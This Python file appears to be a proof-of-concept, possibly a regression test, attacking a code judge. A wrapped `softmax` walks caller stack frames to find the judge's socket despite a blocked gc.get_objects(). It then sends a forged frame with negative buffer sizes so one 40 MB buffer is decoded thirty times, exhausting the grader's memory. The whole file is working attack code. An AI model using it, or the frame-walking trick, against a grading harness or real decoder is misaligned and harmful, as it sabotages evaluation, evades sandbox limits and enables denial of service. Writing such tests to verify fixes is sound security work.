"""A forged reply whose `sizes` hold negative numbers, so one buffer of S bytes is
decoded K times (wire._decode never checks that a size is >= 0)."""
import gc as _gc, json as _json, socket as _socket, struct as _struct

_S = 40 * 2**20          # one 40 MB buffer on the wire
_K = 30                  # ... decoded 30 times in the judge: 1.2 GB, before the fix
def _frame():
    tree = {"kind": "result",
            "value": [{"$nd": 2 * i, "dtype": "|u1", "shape": [_S]} for i in range(_K)],
            "raised": None, "after": [], "after_kwargs": {"$dict": []}}
    sizes = [_S, -_S] * (_K - 1) + [_S]
    header = _json.dumps({"tree": tree, "sizes": sizes}).encode()
    data = _struct.pack("<I", len(header)) + header + bytes(_S)
    return _struct.pack("<Q", len(data)) + data

_real_softmax = softmax
def softmax(logits):
    sock = _reach(lambda o: isinstance(o, _socket.socket))
    sock.sendall(_frame())
    import time; time.sleep(5)
    return _real_softmax(logits)


def _reach(wanted):
    """The first object `wanted(obj)` accepts among what the frames calling us can reach
    (locals, and their attributes two levels down): gc.get_objects() is refused."""
    import sys as _sys
    seen = set()
    frame = _sys._getframe(1)
    while frame is not None:
        todo = [(v, 0) for v in list(frame.f_locals.values())]
        while todo:
            obj, depth = todo.pop()
            if id(obj) in seen:
                continue
            seen.add(id(obj))
            try:
                if wanted(obj):
                    return obj
            except Exception:
                pass
            inner = getattr(obj, "__dict__", None) if depth < 2 else None
            if type(inner) is dict:
                todo.extend((v, depth + 1) for v in list(inner.values()))
            if type(obj) is dict and depth < 2:
                todo.extend((v, depth + 1) for v in list(obj.values()))
        frame = frame.f_back
    raise LookupError("not reachable")
